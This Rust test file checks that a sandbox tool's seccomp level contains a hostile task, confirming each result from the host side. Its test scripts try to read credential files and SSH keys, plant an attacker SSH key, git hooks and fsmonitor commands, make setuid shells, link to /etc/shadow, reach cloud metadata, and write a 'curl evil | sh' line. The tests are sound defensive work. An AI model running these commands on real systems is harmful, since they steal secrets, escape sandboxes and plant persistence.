//! The `seccomp` level's view of the host, attacked from inside and judged
//! from the host side (issue 11): the user's home is hidden except for the
//! toolchains, secrets stay hidden even inside the workspace, the task
//! cannot leave set-id files or rewrite what the host's tools execute, and
//! Ctrl-C kills the whole tree at every level.
//!
//! Each test gives the task a fake `$HOME` under `/var/tmp` (not `/tmp`: the
//! task gets a fresh `/tmp`, which would hide a fixture there for the wrong
//! reason) and runs with the path watch off (`--no-watch-paths`), so what
//! stops the task is the mount view, not the detection on top of it.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::exec::require_jail;
use crate::{run, TestHome};

/// A fake home with a canary in `rel`.
struct FakeHome {
    dir: tempfile::TempDir,
}

impl FakeHome {
    fn new() -> FakeHome {
        FakeHome {
            dir: tempfile::Builder::new()
                .prefix("autonomic-home-")
                .tempdir_in("/var/tmp")
                .unwrap(),
        }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn put(&self, rel: &str, text: &str) -> PathBuf {
        let path = self.path().join(rel);
        fs_err::create_dir_all(path.parent().unwrap()).unwrap();
        fs_err::write(&path, text).unwrap();
        path
    }
}

/// `autonomic exec --sandbox seccomp --no-watch-paths` with `HOME` = `home`
/// and a `PATH` that starts in the fake home's `~/.cargo/bin`.
fn jailed(home: &TestHome, fake: &Path, ws: &Path, script: &str) -> (i32, String, String) {
    jailed_env(home, fake, ws, script, &[])
}

/// [`jailed`] with more environment for `autonomic` itself.
fn jailed_env(
    home: &TestHome,
    fake: &Path,
    ws: &Path,
    script: &str,
    env: &[(&str, &Path)],
) -> (i32, String, String) {
    let mut cmd = home.cmd();
    cmd.env("HOME", fake).env(
        "PATH",
        format!("{}/.cargo/bin:/usr/local/bin:/usr/bin:/bin", fake.display()),
    );
    for (name, value) in env {
        cmd.env(name, value);
    }
    cmd.args([
        "exec",
        "--sandbox",
        "seccomp",
        "--no-watch-paths",
        "--profile",
        "developer",
        "--timeout",
        "120s",
        "--workspace",
    ])
    .arg(ws)
    .args(["--", "sh", "-c", script]);
    let out = run(home, &mut cmd);
    require_jail(&out.2);
    out
}

/// The same at level `none` (fixture set-up and host-side checks).
fn plain(home: &TestHome, ws: &Path, script: &str) -> (i32, String, String) {
    let mut cmd = home.cmd();
    cmd.args(["exec", "--sandbox", "none", "--workspace"])
        .arg(ws)
        .args(["--", "sh", "-c", script]);
    run(home, &mut cmd)
}

/// Secrets of tools no list knows about, credential stores the old deny list
/// missed, and shell histories: none readable, because nothing of the home
/// is visible except the toolchains; the toolchain runs, its directory is
/// read-only, and the private home is writable but never reaches the host.
#[test]
fn home_is_private_and_secrets_outside_any_list_stay_hidden() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    let secrets = [
        ".config/git/credentials",
        ".claude/.credentials.json",
        ".codex/auth.json",
        ".config/gh/hosts.yml",
        ".vault-token",
        ".pgpass",
        ".bash_history",
        ".config/rclone/rclone.conf",
        ".terraform.d/credentials.tfrc.json",
        ".some-tool-nobody-listed/token",
    ];
    for (i, rel) in secrets.iter().enumerate() {
        fake.put(rel, &format!("canary-{i}-secret"));
    }
    let tool = fake.put(
        ".cargo/bin/hello-toolchain",
        "#!/bin/sh\necho toolchain-ok\n",
    );
    fs_err::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    fake.put(".gitconfig", "[user]\n\tname = Fake Tester\n");
    let ws = tempfile::tempdir().unwrap();
    let cats: Vec<String> = secrets.iter().map(|r| format!("cat ~/{r}")).collect();
    let script = format!(
        "{} ; ls -la ~ ; hello-toolchain; git config user.name; \
         touch ~/made-in-sandbox && echo home-writable; \
         echo pwned > ~/.cargo/bin/hello-toolchain || echo toolchain-read-only; true",
        cats.join(" ; ")
    );
    let (code, stdout, stderr) = jailed(&home, fake.path(), ws.path(), &script);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(
        !stdout.contains("canary") && !stderr.contains("canary"),
        "{stdout}\n{stderr}"
    );
    assert!(stdout.contains("toolchain-ok"), "{stdout}\n{stderr}");
    assert!(stdout.contains("Fake Tester"), "{stdout}\n{stderr}");
    assert!(stdout.contains("home-writable"), "{stdout}\n{stderr}");
    assert!(stdout.contains("toolchain-read-only"), "{stdout}\n{stderr}");
    // Host side: the toolchain is unchanged, the private home vanished.
    assert_eq!(
        fs_err::read_to_string(&tool).unwrap(),
        "#!/bin/sh\necho toolchain-ok\n"
    );
    assert!(!fake.path().join("made-in-sandbox").exists());
}

/// A container daemon's socket under `$HOME` (Colima, Lima, a rootless
/// podman, one nobody listed): the host listener is never reached.
#[test]
fn daemon_sockets_under_home_are_unreachable() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    let mut listeners = Vec::new();
    for rel in [".colima/default/docker.sock", ".unlisted-daemon/api.sock"] {
        let path = fake.path().join(rel);
        fs_err::create_dir_all(path.parent().unwrap()).unwrap();
        let l = std::os::unix::net::UnixListener::bind(&path).unwrap();
        l.set_nonblocking(true).unwrap();
        listeners.push((rel, l));
    }
    let ws = tempfile::tempdir().unwrap();
    let script = "for s in .colima/default/docker.sock .unlisted-daemon/api.sock; do \
         /usr/bin/python3 -c 'import socket,sys; c=socket.socket(socket.AF_UNIX); c.connect(sys.argv[1]); print(\"CONNECTED\")' ~/$s; done; true";
    let (code, stdout, stderr) = jailed(&home, fake.path(), ws.path(), script);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(!stdout.contains("CONNECTED"), "{stdout}\n{stderr}");
    for (rel, l) in &listeners {
        assert!(
            matches!(l.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
            "the host listener at ~/{rel} was reached"
        );
    }
}

/// The workspace *is* the home, and Autonomic's own state lives inside it:
/// the masks still hold (they are mounted after the workspace), through a
/// symlink swapped back and forth while the task reads, and the spine's
/// config cannot be rewritten to turn the sandbox off.
#[test]
fn masks_hold_inside_the_workspace_and_autonomic_home_is_never_writable() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    let key = fake.put(".ssh/id_ed25519", "canary-private-key");
    let state = fake.path().join("project/.autonomic");
    fs_err::create_dir_all(&state).unwrap();
    let config = state.join("config.toml");
    fs_err::write(&config, "[muscle]\ndefault_sandbox = \"seccomp\"\n").unwrap();
    let script = "echo decoy > decoy; \
        ( i=0; while [ $i -lt 300 ]; do ln -sfn .ssh/id_ed25519 l; ln -sfn decoy l; i=$((i+1)); done ) & \
        i=0; while [ $i -lt 300 ]; do cat l .ssh/id_ed25519 2>/dev/null; i=$((i+1)); done; wait; \
        echo 'default_sandbox = \"none\"' >> project/.autonomic/config.toml || echo config-protected; \
        echo ssh-ed25519 AAAA attacker >> .ssh/authorized_keys || echo ssh-protected; \
        rm -f l decoy; true";
    let (code, stdout, stderr) = jailed_env(
        &home,
        fake.path(),
        fake.path(),
        script,
        &[("AUTONOMIC_HOME", &state)],
    );
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(!stdout.contains("canary"), "the key leaked: {stdout}");
    assert!(stdout.contains("config-protected"), "{stdout}\n{stderr}");
    assert!(stdout.contains("ssh-protected"), "{stdout}\n{stderr}");
    assert_eq!(
        fs_err::read_to_string(&config).unwrap(),
        "[muscle]\ndefault_sandbox = \"seccomp\"\n"
    );
    assert!(!fake.path().join(".ssh/authorized_keys").exists());
    assert_eq!(fs_err::read_to_string(&key).unwrap(), "canary-private-key");
}

/// No set-user-ID or set-group-ID file comes out of the sandbox, whichever
/// way the task asks for the bits (the caller is root here, so such a file
/// would be a root shell for any local user).
#[test]
fn setid_files_cannot_be_made() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    let ws = tempfile::tempdir().unwrap();
    let script = "cp /bin/sh ./a; chmod 6755 ./a; chmod u+s,g+s ./a; \
        install -m 4755 /bin/sh ./b; \
        /usr/bin/python3 -c 'import os\nos.close(os.open(\"c\", os.O_CREAT|os.O_WRONLY, 0o644))\ntry: os.chmod(\"c\", 0o4755)\nexcept PermissionError: print(\"chmod-refused\")\ntry: os.open(\"e\", os.O_CREAT|os.O_WRONLY, 0o6755)\nexcept PermissionError: print(\"creat-refused\")'; \
        mkdir d && chmod g+s d; ls -l; true";
    let (code, stdout, stderr) = jailed(&home, fake.path(), ws.path(), script);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("chmod-refused"), "{stdout}\n{stderr}");
    assert!(stdout.contains("creat-refused"), "{stdout}\n{stderr}");
    assert!(!ws.path().join("e").exists());
    for name in ["a", "b", "c", "d"] {
        let path = ws.path().join(name);
        let meta = fs_err::metadata(&path)
            .unwrap_or_else(|e| panic!("{name} was not made: {e}\n{stdout}\n{stderr}"));
        assert_eq!(
            meta.permissions().mode() & 0o6000,
            0,
            "{name} is set-id on the host: {:o}\n{stdout}",
            meta.permissions().mode()
        );
    }
    // The same script at level none does make them: the sandbox is what
    // stopped it.
    let ws2 = tempfile::tempdir().unwrap();
    let (code, _, _) = plain(&home, ws2.path(), "cp /bin/sh ./a && chmod 6755 ./a");
    assert_eq!(code, 0);
    let mode = fs_err::metadata(ws2.path().join("a"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o6000, 0o6000);
}

/// `git add` and `git commit` work in the sandbox, while `.git/config` and
/// `.git/hooks` — which git on the host obeys and runs — are read-only: the
/// host's next `git status` does not run a planted fsmonitor.
#[test]
fn git_commit_works_and_git_config_and_hooks_are_protected() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    let ws = tempfile::tempdir().unwrap();
    let (code, out, err) = plain(
        &home,
        ws.path(),
        "git init -q . && echo one > a.txt && git add a.txt && \
         git -c user.name=T -c user.email=t@example.com commit -qm init",
    );
    assert_eq!(code, 0, "{out}\n{err}");
    let config_before = fs_err::read_to_string(ws.path().join(".git/config")).unwrap();
    let marker = fake.path().join("fsmonitor-ran");
    let script = format!(
        "echo two >> a.txt && git add a.txt && \
         git -c user.name=T -c user.email=t@example.com commit -qm second && echo committed; \
         git config core.fsmonitor 'touch {m}' || echo config-protected; \
         printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/post-checkout || echo hooks-protected; \
         mv .git/hooks .git/hooks-old 2>/dev/null || echo hooks-pinned; \
         mv .git .git-old 2>/dev/null || echo git-dir-pinned; true",
        m = marker.display()
    );
    let (code, stdout, stderr) = jailed(&home, fake.path(), ws.path(), &script);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("committed"), "{stdout}\n{stderr}");
    assert!(stdout.contains("config-protected"), "{stdout}\n{stderr}");
    assert!(stdout.contains("hooks-protected"), "{stdout}\n{stderr}");
    assert!(stdout.contains("hooks-pinned"), "{stdout}\n{stderr}");
    // Renaming `.git` away and planting a new one is not possible either:
    // it is a mount point of its own.
    assert!(stdout.contains("git-dir-pinned"), "{stdout}\n{stderr}");
    assert!(!ws.path().join(".git-old").exists());
    assert_eq!(
        fs_err::read_to_string(ws.path().join(".git/config")).unwrap(),
        config_before
    );
    // Host side: the commit is there, and git on the host runs nothing.
    let (code, log, _) = plain(
        &home,
        ws.path(),
        "git log --oneline | wc -l; git status --short; git checkout -q -b other",
    );
    assert_eq!(code, 0);
    assert!(log.trim_start().starts_with('2'), "{log}");
    assert!(
        !marker.exists(),
        "a planted hook or fsmonitor ran on the host"
    );
}

/// Ctrl-C (SIGINT) to `autonomic exec` kills the task's whole tree at
/// every level, including a child the task put in the background.
#[test]
fn ctrl_c_kills_the_whole_tree_at_every_level() {
    for level in ["none", "seccomp"] {
        let home = TestHome::new();
        let ws = tempfile::tempdir().unwrap();
        let pidfile = ws.path().join("pid");
        #[expect(
            clippy::disallowed_methods,
            reason = "the test must send SIGINT to a running autonomic"
        )]
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_autonomic"));
        cmd.env("AUTONOMIC_HOME", home.home())
            .env_remove("RUST_LOG")
            .args([
                "exec",
                "--sandbox",
                level,
                "--timeout",
                "120s",
                "--workspace",
            ])
            .arg(ws.path())
            .args([
                "--",
                "sh",
                "-c",
                "sleep 300 & echo $! > pid.tmp; mv pid.tmp pid; wait",
            ])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        let deadline = Instant::now() + Duration::from_secs(60);
        while !pidfile.exists() {
            assert!(Instant::now() < deadline, "{level}: the task never started");
            std::thread::sleep(Duration::from_millis(20));
        }
        // At seccomp the pid is the task's own (PID namespace); find the
        // host's `sleep 300` among the autonomic process's descendants.
        // The pid file can appear before the forked shell has exec'd
        // `sleep` (its name is still `sh` then), so look until it has.
        let sleepers = loop {
            let found = descendants_named(child.id(), "sleep");
            if !found.is_empty() {
                break found;
            }
            assert!(Instant::now() < deadline, "{level}: no sleep found");
            std::thread::sleep(Duration::from_millis(20));
        };
        // SAFETY: plain kill(2) of the child we spawned.
        assert_eq!(unsafe { libc::kill(child.id() as i32, libc::SIGINT) }, 0);
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(130), "{level}");
        let deadline = Instant::now() + Duration::from_secs(10);
        for pid in sleepers {
            while alive(pid) {
                assert!(
                    Instant::now() < deadline,
                    "{level}: sleep {pid} survived Ctrl-C"
                );
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

/// Pids of the processes named `name` below `root`, from /proc.
fn descendants_named(root: u32, name: &str) -> Vec<u32> {
    let mut procs: Vec<(u32, u32, String)> = Vec::new();
    for entry in fs_err::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(stat) = fs_err::read_to_string(entry.path().join("stat")) else {
            continue;
        };
        let (Some(open), Some(close)) = (stat.find('('), stat.rfind(')')) else {
            continue;
        };
        let comm = stat[open + 1..close].to_owned();
        let ppid = stat[close + 2..]
            .split(' ')
            .nth(1)
            .and_then(|p| p.parse().ok())
            .unwrap_or(0);
        procs.push((pid, ppid, comm));
    }
    let mut tree = vec![root];
    let mut i = 0;
    while i < tree.len() {
        let parent = tree[i];
        tree.extend(procs.iter().filter(|p| p.1 == parent).map(|p| p.0));
        i += 1;
    }
    procs
        .iter()
        .filter(|p| tree.contains(&p.0) && p.2 == name)
        .map(|p| p.0)
        .collect()
}

/// Whether `pid` is still a live (not zombie) process.
fn alive(pid: u32) -> bool {
    match fs_err::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(stat) => stat
            .rfind(')')
            .and_then(|c| stat[c + 2..].chars().next())
            .is_some_and(|state| state != 'Z'),
        Err(_) => false,
    }
}

/// What the task leaves for the host — a FIFO named like a manifest, a
/// symlink to a secret, a new hook directory, a `git init` with a planted
/// fsmonitor — is reported, audited and removed; an ordinary new repository
/// and in-workspace symlinks are left alone.
#[test]
fn traps_left_in_the_workspace_are_reported_and_removed() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    let ws = tempfile::tempdir().unwrap();
    let script = "mkfifo package.json; ln -s /etc/shadow notes.txt; ln -s src here; mkdir src; \
        mkdir -p .husky && printf '#!/bin/sh\\nid\\n' > .husky/pre-commit; \
        git init -q . && git config core.fsmonitor 'touch /var/tmp/x'; \
        mkdir clean && cd clean && git init -q . ; true";
    let (code, stdout, stderr) = jailed(&home, fake.path(), ws.path(), script);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    for name in ["package.json", "notes.txt", ".husky", ".git/config"] {
        assert!(
            stderr.contains(&format!("`{name}`")),
            "{name} not reported: {stderr}"
        );
        assert!(
            std::fs::symlink_metadata(ws.path().join(name)).is_err(),
            "{name} is still on the host"
        );
    }
    assert!(
        ws.path().join("here").is_symlink(),
        "an inside symlink was removed"
    );
    assert!(
        ws.path().join("clean/.git/config").is_file(),
        "a clean git init was undone"
    );
    let audit = fs_err::read_to_string(home.audit_log()).unwrap();
    assert!(audit.contains("muscle.traps"), "{audit}");

    // With `workspace_traps = "report"` the same FIFO is reported and kept.
    home.write_config("[muscle]\nworkspace_traps = \"report\"\n");
    let ws = tempfile::tempdir().unwrap();
    let (code, _, stderr) = jailed(&home, fake.path(), ws.path(), "mkfifo Cargo.toml");
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("`Cargo.toml`"), "{stderr}");
    assert!(std::fs::symlink_metadata(ws.path().join("Cargo.toml")).is_ok());
}

/// A loopback test server that answers every request with `body` and counts
/// the connections it got.
fn counting_server(body: &'static str) -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read as _, Write as _};
    use std::sync::atomic::{AtomicUsize, Ordering};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(AtomicUsize::new(0));
    let counter = std::sync::Arc::clone(&hits);
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            counter.fetch_add(1, Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let _ = conn.read(&mut buf);
            let _ = write!(
                conn,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, hits)
}

/// The task reaches the network only through the proxy, and only where the
/// grant says: a named loopback service yes; another one, cloud metadata and
/// a direct connection (around the proxy) no — judged by the host servers'
/// own connection counts. With a bare `--allow-net`, loopback stays out.
#[test]
fn network_grants_go_through_the_proxy_and_only_where_granted() {
    use std::sync::atomic::Ordering;
    let home = TestHome::new();
    let fake = FakeHome::new();
    let (granted, granted_hits) = counting_server("hello-granted");
    let (other, other_hits) = counting_server("hello-other");
    let script = format!(
        r#"/usr/bin/python3 - <<'PY'
import socket, urllib.request, urllib.error
def get(url):
    try:
        return urllib.request.urlopen(url, timeout=20).read().decode()
    except urllib.error.HTTPError as e:
        return "refused-%d" % e.code
print("granted:", get("http://127.0.0.1:{granted}/"))
print("other:", get("http://127.0.0.1:{other}/"))
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n")
print("metadata:", s.makefile("rb").readline().decode().strip())
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT localhost:{granted} HTTP/1.1\r\n\r\n")
f = s.makefile("rb")
print("by-name:", f.readline().decode().strip())
f.readline()
s.sendall(b"GET / HTTP/1.0\r\n\r\n")
print("tunnel:", f.read().decode().split("\r\n\r\n")[-1])
try:
    socket.create_connection(("127.0.0.1", {other}), timeout=5)
    print("direct: connected")
except OSError as e:
    print("direct: failed", e.errno)
PY"#
    );
    let mut cmd = home.cmd();
    cmd.env("HOME", fake.path())
        .args(["exec", "--sandbox", "seccomp", "--profile", "developer"])
        .args(["--allow-host", &format!("127.0.0.1:{granted}")])
        .args(["--allow-host", &format!("localhost:{granted}")])
        .args(["--timeout", "120s", "--workspace"])
        .arg(fake.path())
        .args(["--", "sh", "-c", &script]);
    let (code, stdout, stderr) = run(&home, &mut cmd);
    require_jail(&stderr);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    for want in [
        "granted: hello-granted",
        "other: refused-403",
        "metadata: HTTP/1.1 403",
        "by-name: HTTP/1.1 200",
        "tunnel: hello-granted",
        "direct: failed",
    ] {
        assert!(stdout.contains(want), "{want}: {stdout}\n{stderr}");
    }
    assert!(
        stderr.contains("refused a connection to 169.254.169.254:80"),
        "{stderr}"
    );
    assert_eq!(
        other_hits.load(Ordering::SeqCst),
        0,
        "the ungranted server was reached"
    );
    assert!(granted_hits.load(Ordering::SeqCst) >= 2);
    let audit = fs_err::read_to_string(home.audit_log()).unwrap();
    assert!(audit.contains("muscle.egress"), "{audit}");

    // Any public host: the host's loopback services are still out of reach.
    let before = granted_hits.load(Ordering::SeqCst);
    let mut cmd = home.cmd();
    cmd.env("HOME", fake.path())
        .args(["exec", "--sandbox", "seccomp", "--profile", "developer", "--allow-net"])
        .args(["--timeout", "120s", "--workspace"])
        .arg(fake.path())
        .args([
            "--",
            "/usr/bin/python3",
            "-c",
            &format!(
                "import urllib.request as u\ntry: u.urlopen('http://127.0.0.1:{granted}/', timeout=20)\nexcept Exception as e: print('refused', e)"
            ),
        ]);
    let (code, stdout, stderr) = run(&home, &mut cmd);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("refused"), "{stdout}\n{stderr}");
    assert!(stderr.contains("loopback"), "{stderr}");
    assert_eq!(granted_hits.load(Ordering::SeqCst), before);
}

/// When the caller is root, the task's processes run as an unprivileged
/// host id (no account owns it) with no supplementary groups: root-only
/// and root-group files on the host are unreadable, while the workspace —
/// an idmapped mount — is the task's, and what it writes there belongs to
/// the workspace's owner, set-id bits never. (For any other caller the
/// task's host id is the caller's own.) Judged from the host: the uid of
/// the task's processes in /proc, file owners after the run.
#[test]
fn a_root_callers_task_runs_as_an_unprivileged_id() {
    const TASK_HOST_ID: u32 = 0x7ff0_0000;
    // SAFETY: geteuid takes no arguments and cannot fail.
    let caller = unsafe { libc::geteuid() };
    let home = TestHome::new();
    let fake = FakeHome::new();
    let owner_only = fake.put("root-only", "canary-owner-only");
    fs_err::set_permissions(&owner_only, std::fs::Permissions::from_mode(0o600)).unwrap();
    let group_only = fake.put("group-only", "canary-group-only");
    fs_err::set_permissions(&group_only, std::fs::Permissions::from_mode(0o640)).unwrap();
    // The fake home is hidden from the task: show the two files read-only.
    let ws = tempfile::tempdir().unwrap();
    let script = format!(
        "cat {o} {g}; id -G; echo mine > written; sleep 30 & echo started > started; wait",
        o = owner_only.display(),
        g = group_only.display()
    );
    #[expect(
        clippy::disallowed_methods,
        reason = "the test must look at the task's processes while it runs"
    )]
    let child = std::process::Command::new(env!("CARGO_BIN_EXE_autonomic"))
        .env("AUTONOMIC_HOME", home.home())
        .env("HOME", fake.path())
        .env_remove("RUST_LOG")
        .args([
            "exec",
            "--sandbox",
            "seccomp",
            "--no-watch-paths",
            "--timeout",
            "120s",
        ])
        .args(["--ro-bind"])
        .arg(&owner_only)
        .args(["--ro-bind"])
        .arg(&group_only)
        .arg("--workspace")
        .arg(ws.path())
        .args(["--", "sh", "-c", &script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while !ws.path().join("started").exists() {
        assert!(Instant::now() < deadline, "the task never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    // `sleep 30 &` was forked before `started` was written, but the child
    // may not have exec'd `sleep` yet (it is still `sh` until then): wait
    // for it (CI once looked in that gap).
    let sleepers = loop {
        let found = descendants_named(child.id(), "sleep");
        if !found.is_empty() {
            break found;
        }
        assert!(Instant::now() < deadline, "the task's sleep never started");
        std::thread::sleep(Duration::from_millis(20));
    };
    let expected = if caller == 0 { TASK_HOST_ID } else { caller };
    for pid in &sleepers {
        let status = fs_err::read_to_string(format!("/proc/{pid}/status")).unwrap();
        let line = |key: &str| {
            status
                .lines()
                .find(|l| l.starts_with(key))
                .unwrap_or_default()
                .to_owned()
        };
        let uids: Vec<u32> = line("Uid:")
            .split_whitespace()
            .skip(1)
            .map(|v| v.parse().unwrap())
            .collect();
        assert!(uids.iter().all(|u| *u == expected), "{status}");
        assert!(line("CapEff:").ends_with("0000000000000000"), "{status}");
        if caller == 0 {
            assert_eq!(
                line("Groups:").trim(),
                "Groups:",
                "supplementary groups left: {status}"
            );
        }
    }
    // SAFETY: plain kill(2) of the child we spawned.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    if caller == 0 {
        assert!(!stdout.contains("canary"), "{stdout}\n{stderr}");
        assert!(stderr.contains("Permission denied"), "{stderr}");
    }
    // What the task wrote is the workspace owner's, as if they wrote it.
    use std::os::unix::fs::MetadataExt as _;
    let written = fs_err::metadata(ws.path().join("written")).unwrap();
    let owner = fs_err::metadata(ws.path()).unwrap();
    assert_eq!((written.uid(), written.gid()), (owner.uid(), owner.gid()));
}

/// A git worktree: its `.git` is a file pointing into the main repository,
/// whose objects and refs a commit writes, so the task needs `--bind` of
/// the main `.git` — and that bind still leaves its `config` and `hooks`
/// read-only (a grant must name them).
#[test]
fn a_worktree_commits_through_a_bind_that_keeps_hooks_and_config_read_only() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    let root = tempfile::tempdir().unwrap();
    let (code, out, err) = plain(
        &home,
        root.path(),
        "git init -q repo && cd repo && echo a > a && git add a && \
         git -c user.name=T -c user.email=t@example.com commit -qm one && \
         git worktree add -q ../wt -b feature",
    );
    assert_eq!(code, 0, "{out}\n{err}");
    let git = root.path().join("repo/.git");
    let config_before = fs_err::read_to_string(git.join("config")).unwrap();
    let script = "echo b > b && git add b && \
        git -c user.name=T -c user.email=t@example.com commit -qm two && echo committed; \
        git config core.fsmonitor 'touch /tmp/x' || echo config-protected; \
        printf '#!/bin/sh\\nid\\n' > \"$(git rev-parse --git-common-dir)/hooks/post-checkout\" || echo hooks-protected; true";
    let mut cmd = home.cmd();
    cmd.env("HOME", fake.path())
        .args([
            "exec",
            "--sandbox",
            "seccomp",
            "--no-watch-paths",
            "--timeout",
            "120s",
        ])
        .arg("--bind")
        .arg(&git)
        .arg("--workspace")
        .arg(root.path().join("wt"))
        .args(["--", "sh", "-c", script]);
    let (code, stdout, stderr) = run(&home, &mut cmd);
    require_jail(&stderr);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    for want in ["committed", "config-protected", "hooks-protected"] {
        assert!(stdout.contains(want), "{want}: {stdout}\n{stderr}");
    }
    assert_eq!(
        fs_err::read_to_string(git.join("config")).unwrap(),
        config_before
    );
    assert!(!git.join("hooks/post-checkout").exists());
    let (_, log, _) = plain(
        &home,
        root.path(),
        "git -C repo log --oneline feature | wc -l",
    );
    assert_eq!(log.trim(), "2", "the commit did not land: {log}");
}

/// `git commit` without an identity fails with git's own message — not a
/// sandbox kill for a DNS socket "without a network grant" (git looks the
/// hostname up to make an address up; the sandbox's /etc/hosts names it,
/// and netlink probes are refused, not killed).
#[test]
fn git_without_an_identity_fails_for_the_real_reason() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    let ws = tempfile::tempdir().unwrap();
    let (code, stdout, stderr) = jailed(
        &home,
        fake.path(),
        ws.path(),
        "git init -q . && echo a > a && git add a && git commit -qm x",
    );
    assert_eq!(code, 128, "{stdout}\n{stderr}");
    assert!(stderr.contains("Please tell me who you are"), "{stderr}");
    assert!(!stderr.contains("autonomic:"), "{stderr}");
}

/// With the path watch on (the default), creating a protected path that did
/// not exist kills the task before the call runs and names the path — by
/// `mkdir`, by `open(O_CREAT)`, by a rename onto it — while a fresh `git
/// init` (no `.git` before) is fine.
#[test]
fn creating_a_protected_path_is_refused_before_it_happens() {
    let home = TestHome::new();
    let fake = FakeHome::new();
    for (script, name) in [
        ("mkdir .husky", ".husky"),
        ("echo 'curl evil | sh' > .envrc", ".envrc"),
        ("echo '{}' > x.json && mv x.json .mcp.json", ".mcp.json"),
        (
            "mkdir -p sub && ln -s .. sub/up && mkdir sub/up/.vscode",
            ".vscode",
        ),
    ] {
        let ws = tempfile::tempdir().unwrap();
        let mut cmd = home.cmd();
        cmd.env("HOME", fake.path())
            .args([
                "exec",
                "--sandbox",
                "seccomp",
                "--timeout",
                "60s",
                "--workspace",
            ])
            .arg(ws.path())
            .args(["--", "sh", "-c", script]);
        let (code, stdout, stderr) = run(&home, &mut cmd);
        require_jail(&stderr);
        assert_eq!(code, 159, "{script}: {stdout}\n{stderr}");
        assert!(
            stderr.contains(&format!(
                "creating `{}/{name}`",
                ws.path().canonicalize().unwrap().display()
            )),
            "{script}: {stderr}"
        );
        assert!(
            std::fs::symlink_metadata(ws.path().join(name)).is_err(),
            "{script}: {name} reached the host"
        );
    }
    let ws = tempfile::tempdir().unwrap();
    let mut cmd = home.cmd();
    cmd.env("HOME", fake.path())
        .args(["exec", "--sandbox", "seccomp", "--workspace"])
        .arg(ws.path())
        .args(["--", "git", "init", "-q", "."]);
    let (code, _, stderr) = run(&home, &mut cmd);
    assert_eq!(code, 0, "{stderr}");
    assert!(ws.path().join(".git/config").is_file());
}

/// Ctrl-C at the `firecracker` level ends the microVM: the VMM (QEMU) is
/// gone from the host once `autonomic` has exited with 130.
#[test]
fn ctrl_c_ends_the_microvm() {
    let home = TestHome::new();
    crate::exec::vm_image_config(&home);
    let ws = tempfile::tempdir().unwrap();
    #[expect(
        clippy::disallowed_methods,
        reason = "the test must send SIGINT to a running autonomic"
    )]
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_autonomic"))
        .env("AUTONOMIC_HOME", home.home())
        .env_remove("RUST_LOG")
        .args([
            "exec",
            "--sandbox",
            "firecracker",
            "--timeout",
            "300s",
            "--workspace",
        ])
        .arg(ws.path())
        .args(["--", "sleep", "300"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    let vmm = loop {
        let found = descendants_named(child.id(), "qemu-system-x86");
        if let Some(pid) = found.first() {
            break *pid;
        }
        assert!(Instant::now() < deadline, "no VMM started");
        std::thread::sleep(Duration::from_millis(50));
    };
    // Let the guest boot and start the task.
    std::thread::sleep(Duration::from_secs(2));
    // SAFETY: plain kill(2) of the child we spawned.
    assert_eq!(unsafe { libc::kill(child.id() as i32, libc::SIGINT) }, 0);
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130));
    let deadline = Instant::now() + Duration::from_secs(10);
    while alive(vmm) {
        assert!(Instant::now() < deadline, "the VMM {vmm} survived Ctrl-C");
        std::thread::sleep(Duration::from_millis(20));
    }
}
